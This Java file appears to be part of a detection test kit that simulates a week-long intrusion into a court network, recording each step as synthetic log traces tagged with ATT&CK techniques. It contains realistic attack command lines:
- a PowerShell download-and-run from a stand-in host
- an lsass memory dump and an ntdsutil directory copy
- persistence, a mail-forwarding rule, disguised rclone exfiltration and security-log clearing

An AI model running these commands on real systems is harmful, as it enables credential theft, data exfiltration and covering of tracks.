package org.tipstaff.testkit.scenario;

import java.time.Instant;
import java.util.List;

/**
 * What the intruder does, from a mail on Tuesday to documents leaving on Friday evening. Only documented addresses and invented
 * tools: nothing here is a recipe, and no rule was written for it.
 */
final class Intrusion {
    private static final String DISCLOSURE = "\\??\\D:\\Shares\\Disclosure";
    private static final String CONTROL_NAME = "docs.annex-viewer.example";
    private static final String CONTROL_ADDRESS = "203.0.113.25";
    private static final String DROP_NAME = "in.bulk-storage.example";
    private static final String DROP_ADDRESS = "203.0.113.80";
    private static final Program IMPLANT =
            Program.nameless("C:\\Users\\registry.clerk3\\AppData\\Roaming\\Printers\\prnview.exe", "-");
    private static final Program TOOL = Program.nameless("C:\\Windows\\Temp\\prnsvc.exe", "-");
    private static final Program COPIER = new Program(
            "C:\\ProgramData\\Printers\\prnsync.exe", "1.69.1", "Rsync for cloud storage", "Rclone", "-", "rclone.exe");

    private final long seed;
    private final Traces traces;
    private final Truth truth;

    Intrusion(long seed, Traces traces, Truth truth) {
        this.seed = seed;
        this.traces = traces;
        this.truth = truth;
    }

    void happen() {
        Running implant = mailIsOpened();
        Running shell = lookAround(implant);
        stay(implant);
        collectTickets(implant);
        Running stolen = takeCredentials(shell);
        Running foothold = moveToChambers(stolen);
        forwardMail();
        moveToServers(foothold);
        readDisclosure(foothold);
        packAndSend(foothold);
        cover();
    }

    private Running mailIsOpened() {
        Host host = Court.REG_WS_014;
        Instant time = Court.at(1, 9, 12, 31);
        Session session = traces.signIn(host, Court.CLERK3, time.minusSeconds(600), 7, host);
        Running explorer = traces.start(
                session,
                traces.system(host, Program.SVCHOST),
                time.minusSeconds(590),
                Program.EXPLORER,
                "C:\\Windows\\Explorer.EXE",
                "C:\\Windows\\system32\\");
        Running outlook = traces.start(
                session,
                explorer,
                time.minusSeconds(500),
                Program.OUTLOOK,
                "\"" + Program.OUTLOOK.path() + "\"",
                OrdinaryWeek.home(Court.CLERK3));
        Entry saved = traces.fileWritten(
                outlook,
                time,
                OrdinaryWeek.home(Court.CLERK3)
                        + "AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\K3QX81ZD\\Annex to application 117-26.pdf.iso");
        truth.step(
                time,
                host,
                Court.CLERK3,
                "The clerk opens the attachment of a mail, a disk image that calls itself an annex in PDF",
                List.of("T1566.001", "T1204.002"),
                saved);

        Instant opened = time.plusSeconds(17);
        Running script = traces.start(
                session,
                explorer,
                opened,
                Program.WSCRIPT,
                "\"C:\\Windows\\System32\\WScript.exe\" //E:jscript \"E:\\~data\\view.dat\"",
                "E:\\");
        Running powershell = traces.start(
                session,
                script,
                opened.plusSeconds(2),
                Program.POWERSHELL,
                "powershell.exe -nop -w hidden -c \"$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','pv');iex $w.DownloadString('http://"
                        + CONTROL_NAME + "/v/117')\"",
                "E:\\");
        Entry looked = traces.lookedUp(powershell, opened.plusSeconds(3), CONTROL_NAME, CONTROL_ADDRESS);
        Entry connected = traces.connected(powershell, opened.plusSeconds(3), CONTROL_ADDRESS, CONTROL_NAME, 80);
        Entry block = traces.scriptRun(
                powershell,
                opened.plusSeconds(4),
                "$d=\"$env:APPDATA\\Printers\";ni $d -ItemType Directory -Force|Out-Null;"
                        + "[IO.File]::WriteAllBytes(\"$d\\prnview.exe\",$w.DownloadData('http://" + CONTROL_NAME
                        + "/v/b'));Start-Process \"$d\\prnview.exe\"");
        truth.step(
                opened,
                host,
                Court.CLERK3,
                "The shortcut in the image starts a script, the script PowerShell, and PowerShell fetches and runs more from outside",
                List.of("T1204.002", "T1059.007", "T1059.001", "T1105"),
                traces.traceOf(script),
                traces.traceOf(powershell),
                looked,
                connected,
                block);
        Entry dropped = traces.fileWritten(powershell, opened.plusSeconds(6), IMPLANT.path());
        Running implant =
                traces.start(session, powershell, opened.plusSeconds(8), IMPLANT, "\"" + IMPLANT.path() + "\"", "E:\\");
        Entry home = traces.connected(implant, opened.plusSeconds(9), CONTROL_ADDRESS, CONTROL_NAME, 443);
        truth.step(
                opened.plusSeconds(6),
                host,
                Court.CLERK3,
                "A remote control program is written to the clerk's profile, starts and calls out; it keeps calling until Friday",
                List.of("T1105", "T1071.001"),
                dropped,
                home);
        Dice dice = Dice.named(seed, "calls");
        for (int day = 1; day <= 4; day++) {
            for (int hour = day == 1 ? 10 : 7; hour < 17; hour++) {
                traces.connected(
                        implant,
                        Court.at(day, hour, dice.below(60), dice.below(60)),
                        CONTROL_ADDRESS,
                        CONTROL_NAME,
                        443);
            }
        }
        return implant;
    }

    private Running lookAround(Running implant) {
        Instant time = Court.at(1, 9, 26, 3);
        Running shell = traces.start(implant, time, Program.CMD, "C:\\Windows\\system32\\cmd.exe");
        Entry who = run(shell, time.plusSeconds(6), Program.WHOAMI, "whoami /all");
        run(shell, time.plusSeconds(31), Program.IPCONFIG, "ipconfig /all");
        Entry rulers = run(shell, time.plusSeconds(58), Program.NET, "net group \"Domain Admins\" /domain");
        run(shell, time.plusSeconds(92), Program.NLTEST, "nltest /dclist:" + Court.DNS);
        run(shell, time.plusSeconds(140), Program.NET, "net view \\\\FS01 /all");
        truth.step(
                time,
                Court.REG_WS_014,
                Court.CLERK3,
                "The intruder asks who they are, who rules the domain and where its servers are",
                List.of("T1033", "T1016", "T1069.002", "T1018", "T1135"),
                who,
                rulers);
        return shell;
    }

    private Entry run(Running shell, Instant time, Program program, String commandLine) {
        Running started = traces.start(shell, time, program, commandLine);
        traces.end(started, time.plusSeconds(1));
        return traces.traceOf(started);
    }

    private void stay(Running implant) {
        Instant time = Court.at(1, 9, 41, 50);
        Running reg = traces.start(
                implant,
                time,
                Program.REG,
                "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v PrinterView /d \"" + IMPLANT.path()
                        + "\" /f");
        Entry key = traces.registrySet(
                reg,
                time.plusMillis(200),
                "HKU\\" + Court.CLERK3.sid() + "\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\PrinterView",
                IMPLANT.path());
        traces.end(reg, time.plusSeconds(1));
        Running schtasks = traces.start(
                implant,
                time.plusSeconds(25),
                Program.SCHTASKS,
                "schtasks /create /tn \"Printer View Check\" /sc onlogon /tr \"" + IMPLANT.path() + "\" /f");
        Entry task = traces.taskMade(
                implant.session(), time.plusSeconds(25).plusMillis(300), "\\Printer View Check", IMPLANT.path(), "-s");
        traces.end(schtasks, time.plusSeconds(26));
        traces.taskRan(Court.REG_WS_014, Court.at(2, 6, 58, 20), "\\Printer View Check", IMPLANT.path(), 1);
        truth.step(
                time,
                Court.REG_WS_014,
                Court.CLERK3,
                "A run key and a scheduled task start the program at every sign-in",
                List.of("T1547.001", "T1053.005"),
                key,
                task);
    }

    private void collectTickets(Running implant) {
        Instant time = Court.at(1, 12, 20, 14);
        Entry first = traces.serviceTicket(Court.CLERK3, "svc.sql", "0x17", implant.host(), time);
        int i = 1;
        for (String service : List.of("svc.web", "svc.print", "svc.backup", "svc.scan", "svc.mail")) {
            traces.serviceTicket(Court.CLERK3, service, "0x17", implant.host(), time.plusMillis(350L * i++));
        }
        truth.step(
                time,
                Court.DC01,
                Court.CLERK3,
                "Tickets of six service accounts are collected in a weak form, to guess their passwords elsewhere",
                List.of("T1558.003"),
                first);
    }

    private Running takeCredentials(Running shell) {
        Instant time = Court.at(1, 14, 37, 8);
        Host host = Court.REG_WS_014;
        Session system = new Session(host, Court.SYSTEM, "0x3e7", 0);
        Running helper = traces.start(
                system,
                traces.system(host, Program.SERVICES),
                time,
                TOOL,
                TOOL.path() + " -q",
                "C:\\Windows\\system32\\");
        Entry service = traces.serviceInstalled(shell.session(), time.minusSeconds(1), "PrnSvc", TOOL.path());
        Running dump = traces.start(
                helper,
                time.plusSeconds(20),
                Program.RUNDLL32,
                "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump "
                        + traces.system(host, Program.LSASS).pid() + " C:\\Windows\\Temp\\pv.tmp full");
        traces.libraryLoaded(dump, time.plusSeconds(20).plusMillis(80), "C:\\Windows\\System32\\comsvcs.dll");
        Entry opened = traces.memoryOpened(
                dump, time.plusSeconds(20).plusMillis(200), traces.system(host, Program.LSASS), "0x1fffff");
        traces.fileWritten(dump, time.plusSeconds(21), "C:\\Windows\\Temp\\pv.tmp");
        traces.end(dump, time.plusSeconds(24));
        truth.step(
                time,
                host,
                Court.CLERK3,
                "With a service of their own as SYSTEM, the intruder writes the memory of lsass.exe to a file; it holds the password of it.admin1, who had just helped the clerk",
                List.of("T1543.003", "T1003.001"),
                service,
                traces.traceOf(dump),
                opened);
        return helper;
    }

    private Running moveToChambers(Running stolen) {
        Host from = Court.REG_WS_014;
        Host to = Court.CHB_WS_007;
        Instant time = Court.at(2, 17, 22, 40);
        Running powershell = traces.start(
                stolen,
                time.minusSeconds(30),
                Program.POWERSHELL,
                "powershell.exe -nop -w hidden -File C:\\Windows\\Temp\\c.ps1");
        Entry used = traces.otherAccountUsed(powershell, time, Court.ADMIN1, to);
        traces.serviceTicket(Court.ADMIN1, to.account(), "0x12", from, time.plusMillis(50));
        traces.connected(powershell, time.plusMillis(90), to.address(), to.fullName(), 445);
        Session session = traces.signIn(to, Court.ADMIN1, time.plusMillis(200), 3, from);
        traces.shareOpened(session, time.plusMillis(250), "ADMIN$", "\\??\\C:\\Windows", from);
        Entry copied = traces.shareWritten(
                session, time.plusMillis(400), "ADMIN$", "\\??\\C:\\Windows", "Temp\\prnsvc.exe", from);
        Entry service = traces.serviceInstalled(session, time.plusSeconds(4), "PrnSvc", TOOL.path());
        Running tool = traces.start(
                new Session(to, Court.SYSTEM, "0x3e7", 0),
                traces.system(to, Program.SERVICES),
                time.plusSeconds(5),
                TOOL,
                TOOL.path(),
                "C:\\Windows\\system32\\");
        Entry call = traces.connected(tool, time.plusSeconds(7), CONTROL_ADDRESS, CONTROL_NAME, 443);
        traces.signOff(session, time.plusSeconds(30));
        truth.step(
                time,
                to,
                Court.ADMIN1,
                "With it.admin1's password the tool is copied to a lawyer's computer and installed as a service; it calls out from there",
                List.of("T1078.002", "T1021.002", "T1570", "T1569.002"),
                used,
                copied,
                service,
                call);
        return tool;
    }

    private void forwardMail() {
        Instant time = Court.at(3, 11, 31, 18);
        Entry rule = traces.cmdlet(
                Court.LEGAL2,
                "Chambers",
                time,
                "New-InboxRule",
                "-Name \"..\" -ForwardTo \"chambers.desk@post.mail-archive.example\" -MarkAsRead \"True\" -SubjectOrBodyContainsWords \"disclosure,draft,warrant\"");
        truth.step(
                time,
                Court.EXCH01,
                Court.LEGAL2,
                "From the lawyer's session a rule is made that forwards mail about disclosure, drafts and warrants outside",
                List.of("T1114.003"),
                rule);
    }

    private void moveToServers(Running foothold) {
        Instant time = Court.at(3, 17, 48, 5);
        Host from = Court.CHB_WS_007;
        Session chambers = traces.signIn(from, Court.ADMIN1, time.minusSeconds(90), 2, from);
        Running desktop = traces.start(
                chambers,
                foothold,
                time.minusSeconds(40),
                Program.MSTSC,
                "mstsc.exe /v:JUMP01",
                "C:\\Windows\\system32\\");
        Entry connected = traces.connected(desktop, time, Court.JUMP01.address(), Court.JUMP01.fullName(), 3389);
        Session jump = traces.signIn(Court.JUMP01, Court.ADMIN1, time.plusSeconds(2), 10, from);
        Running explorer = traces.start(
                jump,
                traces.system(Court.JUMP01, Program.SVCHOST),
                time.plusSeconds(6),
                Program.EXPLORER,
                "C:\\Windows\\Explorer.EXE",
                "C:\\Windows\\system32\\");
        Running shell = traces.start(
                jump,
                explorer,
                time.plusSeconds(70),
                Program.CMD,
                "\"C:\\Windows\\system32\\cmd.exe\"",
                "C:\\Users\\it.admin1\\");
        run(shell, time.plusSeconds(80), Program.WHOAMI, "whoami /groups");
        truth.step(
                time,
                Court.JUMP01,
                Court.ADMIN1,
                "By remote desktop from the lawyer's computer to the administrators' jump host",
                List.of("T1021.001", "T1078.002"),
                traces.traceOf(desktop),
                connected,
                traces.traceOf(shell));

        Instant remote = time.plusSeconds(600);
        traces.serviceTicket(Court.ADMIN1, "HOST/" + Court.DC01.fullName(), "0x12", Court.JUMP01, remote);
        Session dc = traces.signIn(Court.DC01, Court.ADMIN1, remote.plusMillis(100), 3, Court.JUMP01);
        Running wmi = traces.start(
                new Session(Court.DC01, Court.SYSTEM, "0x3e7", 0),
                traces.system(Court.DC01, Program.SVCHOST),
                remote.plusMillis(150),
                Program.WMIPRVSE,
                "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
                "C:\\Windows\\system32\\");
        Running dcShell = traces.start(
                dc,
                wmi,
                remote.plusSeconds(1),
                Program.CMD,
                "cmd.exe /c ntdsutil \"ac i ntds\" ifm \"create full C:\\Windows\\Temp\\pv\" q q",
                "C:\\");
        Running copy = traces.start(
                dc,
                dcShell,
                remote.plusSeconds(1).plusMillis(300),
                Program.NTDSUTIL,
                "ntdsutil  \"ac i ntds\" ifm \"create full C:\\Windows\\Temp\\pv\" q q",
                "C:\\");
        Entry database =
                traces.fileWritten(copy, remote.plusSeconds(20), "C:\\Windows\\Temp\\pv\\Active Directory\\ntds.dit");
        traces.end(copy, remote.plusSeconds(40));
        traces.end(dcShell, remote.plusSeconds(41));
        traces.signOff(dc, remote.plusSeconds(60));
        traces.signOff(jump, remote.plusSeconds(300));
        truth.step(
                remote,
                Court.DC01,
                Court.ADMIN1,
                "Over WMI the directory database with the passwords of the whole court is copied on the domain controller",
                List.of("T1047", "T1003.003"),
                traces.traceOf(dcShell),
                database);
    }

    private void readDisclosure(Running foothold) {
        Dice dice = Dice.named(seed, "reading");
        Instant time = Court.at(4, 13, 52, 0);
        Host from = Court.CHB_WS_007;
        traces.serviceTicket(Court.ADMIN1, Court.FS01.account(), "0x12", from, time);
        Session local = traces.signIn(from, Court.ADMIN1, time.minusSeconds(60), 2, from);
        Running copy = traces.start(
                local,
                foothold,
                time.minusSeconds(2),
                Program.ROBOCOPY,
                "robocopy \"\\\\FS01\\Disclosure\\Case 112-24\" C:\\ProgramData\\Printers\\in /E /R:0 /NP",
                "C:\\ProgramData\\Printers\\");
        Session share = traces.signIn(Court.FS01, Court.ADMIN1, time.plusMillis(60), 3, from);
        traces.shareOpened(share, time.plusMillis(90), "Disclosure", DISCLOSURE, from);
        Entry first = traces.shareRead(
                share, time.plusSeconds(1), "Disclosure", DISCLOSURE, "Case 112-24\\Sealed\\S-00001.pdf", from);
        for (int i = 1; i < 620; i++) {
            traces.shareRead(
                    share,
                    time.plusSeconds(1).plusMillis(i * 3_400L + dice.below(800)),
                    "Disclosure",
                    DISCLOSURE,
                    "Case 112-24\\%s\\%s-%05d.%s"
                            .formatted(
                                    i < 240 ? "Sealed" : "Batch 10",
                                    i < 240 ? "S" : "D",
                                    i < 240 ? i + 1 : 41_000 + i,
                                    i % 11 == 0 ? "msg" : "pdf"),
                    from);
        }
        traces.end(copy, time.plusSeconds(2_200));
        traces.signOff(share, time.plusSeconds(9_000));
        truth.step(
                time,
                Court.FS01,
                Court.ADMIN1,
                "620 documents of the disclosure share, 240 of them sealed, are read within 36 minutes from the lawyer's computer",
                List.of("T1039"),
                traces.traceOf(copy),
                first);
    }

    private void packAndSend(Running foothold) {
        Host host = Court.CHB_WS_007;
        Instant time = Court.at(4, 14, 40, 12);
        Session session = traces.signIn(host, Court.ADMIN1, time.minusSeconds(30), 2, host);
        Running shell = traces.start(session, foothold, time, Program.CMD, "cmd.exe", "C:\\ProgramData\\Printers\\");
        Running archive = traces.start(
                session,
                shell,
                time.plusSeconds(15),
                Program.SEVEN_ZIP,
                "\"C:\\Program Files\\7-Zip\\7z.exe\" a -v500m -mx1 -mhe -pq8Ld02 C:\\ProgramData\\Printers\\pv.bin C:\\ProgramData\\Printers\\in\\*",
                "C:\\ProgramData\\Printers\\");
        Entry packed = traces.fileWritten(archive, time.plusSeconds(16), "C:\\ProgramData\\Printers\\pv.bin.001");
        for (int i = 2; i <= 9; i++) {
            traces.fileWritten(
                    archive, time.plusSeconds(16 + 70L * (i - 1)), "C:\\ProgramData\\Printers\\pv.bin.00" + i);
        }
        traces.end(archive, time.plusSeconds(700));
        truth.step(
                time,
                host,
                Court.ADMIN1,
                "The documents are packed with a password into nine parts",
                List.of("T1560.001", "T1074.001"),
                traces.traceOf(archive),
                packed);

        Instant sent = Court.at(4, 17, 34, 50);
        traces.fileWritten(foothold, sent.minusSeconds(300), COPIER.path());
        Running copier = traces.start(
                session,
                shell,
                sent,
                COPIER,
                "prnsync.exe copy C:\\ProgramData\\Printers p1:r14 --include pv.bin.* --config C:\\ProgramData\\Printers\\p.dat --transfers 4 -q",
                "C:\\ProgramData\\Printers\\");
        Entry looked = traces.lookedUp(copier, sent.plusMillis(300), DROP_NAME, DROP_ADDRESS);
        Entry connected = traces.connected(copier, sent.plusMillis(400), DROP_ADDRESS, DROP_NAME, 443);
        for (int i = 1; i < 14; i++) {
            traces.connected(copier, sent.plusSeconds(170L * i), DROP_ADDRESS, DROP_NAME, 443);
        }
        traces.end(copier, sent.plusSeconds(2_520));
        truth.step(
                sent,
                host,
                Court.ADMIN1,
                "When the building is empty, a copy tool under another name sends the parts to storage outside, for 42 minutes",
                List.of("T1567.002", "T1036.005"),
                traces.traceOf(copier),
                looked,
                connected);
        Entry deleted = traces.fileDeleted(shell, sent.plusSeconds(2_600), COPIER);
        truth.step(
                sent.plusSeconds(2_600), host, Court.ADMIN1, "The copy tool is deleted", List.of("T1070.004"), deleted);
        traces.end(shell, sent.plusSeconds(2_640));
    }

    private void cover() {
        Instant time = Court.at(4, 18, 29, 33);
        Session again = traces.signIn(Court.JUMP01, Court.ADMIN1, time.minusSeconds(60), 10, Court.CHB_WS_007);
        Running explorer = traces.start(
                again,
                traces.system(Court.JUMP01, Program.SVCHOST),
                time.minusSeconds(50),
                Program.EXPLORER,
                "C:\\Windows\\Explorer.EXE",
                "C:\\Windows\\system32\\");
        Running shell = traces.start(
                again,
                explorer,
                time.minusSeconds(20),
                Program.CMD,
                "\"C:\\Windows\\system32\\cmd.exe\"",
                "C:\\Users\\it.admin1\\");
        Running clear = traces.start(shell, time.minusMillis(300), Program.WEVTUTIL, "wevtutil cl Security");
        Entry cleared = traces.securityLogCleared(again, time);
        traces.end(clear, time.plusSeconds(1));
        traces.signOff(again, time.plusSeconds(40));
        truth.step(
                time,
                Court.JUMP01,
                Court.ADMIN1,
                "The security log of the jump host is emptied; what it held is lost",
                List.of("T1070.001"),
                traces.traceOf(clear),
                cleared);
    }
}
